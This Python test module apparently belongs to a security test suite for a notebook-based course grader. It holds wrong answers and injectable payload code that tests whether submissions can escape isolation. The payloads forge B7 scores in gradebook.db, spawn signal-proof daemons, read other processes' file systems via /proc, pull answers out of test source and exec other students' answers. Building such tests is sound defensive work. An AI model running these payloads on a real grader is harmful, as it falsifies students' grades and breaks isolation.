"""What attacks have in common: the exercise, wrong answers, and tools for payloads."""

from nbformat import NotebookNode

from tests import courses

SLUG = "overfitting"
TARGET = "b7-diagnose"  # whose points most attacks are after
TEST = courses.questions(courses.source(SLUG))[TARGET][0].id
MARK = "DLCOURSE_ATTACK"  # in the name, command line or text of whatever a payload leaves behind

# A wrong answer to each question that some attack wants points for, by its id.
WRONG = {
    "a1-answer": "answer_a1 = 'a'",
    "a5-answer": "answer_a5 = 0.5",
    "a6-answer": "answer_a6 = 0.5",
    "b1-split": (
        "def split_indices(n, n_validation, n_test, seed):\n"
        "    order = torch.arange(n)\n"
        "    return order[n_validation + n_test :], order[:n_validation], order[:n_test]"
    ),
    "b2-kfold": (
        "def kfold_indices(n, k):\n    return [(torch.arange(n), torch.arange(n))] * max(k, 0)"
    ),
    "b3-penalty": "def l2_penalty(parameters, lam):\n    return torch.tensor(0.0)",
    "b5-early-stopping": ("def early_stopping(losses, patience, min_delta=0.0):\n    return 0, 0"),
    TARGET: "def diagnose(*_, **__):\n    return 'good'",
}

# The first cell of every notebook with a payload. Outside of the notebook these names are replaced:
# @COURSE@ the course's folder, @ROOT@ the repository, @CANARY@ a file beside the course that nobody
# may read, @PORT@ a server on this machine, @PIDS@ the pid namespace of the grader, @STUDENT@ the
# attacking student's name.
PRELUDE = '''\
def boast(what):
    """Show that something worked that must not; no source line has the whole word."""
    print("DLCOURSE" + "_ATTACK: " + what, flush=True)


def shut_in():
    """Whether this process sees no others. If it does, a payload must not do its harm for real."""
    import os

    try:
        walls = os.readlink("/proc/self/ns/pid") != "@PIDS@"
    except OSError:  # not even its own entry in /proc
        walls = True
    if not walls:
        boast("no walls around this process")
    return walls


def sign():
    """Give this process a name that says whose it is."""
    import ctypes

    ctypes.CDLL(None).prctl(15, b"DLC" + b"ATTACK")


def daemon(code):
    """Run code in a process of its own that nobody waits for and that no signal reaches."""
    import os
    import sys

    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    os.setsid()
    if os.fork() == 0:
        mark = "DLCOURSE" + "_ATTACK"
        command = [sys.executable, "-c", f"{code}\\n# {mark}"]
        os.execve(sys.executable, command, dict(os.environ) | {mark: "1"})
    os._exit(0)


def ways(path):
    """The path itself, and as other processes see it, whose file system may be a larger one."""
    import glob

    return [path, *(root + path for root in sorted(glob.glob("/proc/[0-9]*/root")))]


# Gives the student full points for B7, by hand as it were.
FORGE = """
import glob, sqlite3

points = "update grade set manual_score = 5, auto_score = 5, needs_manual_grade = 0"
cell = "cell_id in (select id from base_cell where name like 'b7-diagnose-%')"
mine = "select id from submitted_assignment where student_id = '@STUDENT@'"
mine = f"notebook_id in (select id from submitted_notebook where assignment_id in ({mine}))"
for root in ["", *glob.glob("/proc/[0-9]*/root")]:
    try:
        path = f"file:{root}@COURSE@/grading/gradebook.db?mode=rw"
        book = sqlite3.connect(path, uri=True, timeout=5)
        with book:
            book.execute(f"{points} where {cell} and {mine}")
        book.close()
    except sqlite3.Error:
        pass
"""


def learn(text):
    """The answers to B7 that the text of its test gives away: arguments -> expected."""
    import ast

    answers = {}
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "check_diagnosis":
            try:
                *arguments, expected = [eval(ast.unparse(each)) for each in node.args[1:]]
            except Exception:
                continue
            answers[repr(arguments)] = expected
    return answers


def answer(text, train_losses, validation_losses, target, gap):
    """The answer to one call of B7, looked up in the text of its test."""
    if not train_losses or len(train_losses) != len(validation_losses):
        raise ValueError("this much the task says")
    return learn(text).get(repr([train_losses, validation_losses, target, gap]), "good")


def take(path):
    """Make somebody else's answer to B7 one's own, if it can be read."""
    import json

    with open(path, encoding="utf-8") as file:
        cells = json.load(file)["cells"]
    for cell in cells:
        if cell.get("id") == "b7-diagnose":
            exec("".join(cell["source"]), globals())
            boast(f"answer taken from {path}")
'''


def cell(notebook: NotebookNode, cell_id: str) -> NotebookNode:
    """The cell with this id."""
    [found] = [cell for cell in notebook.cells if cell.id == cell_id]
    return found
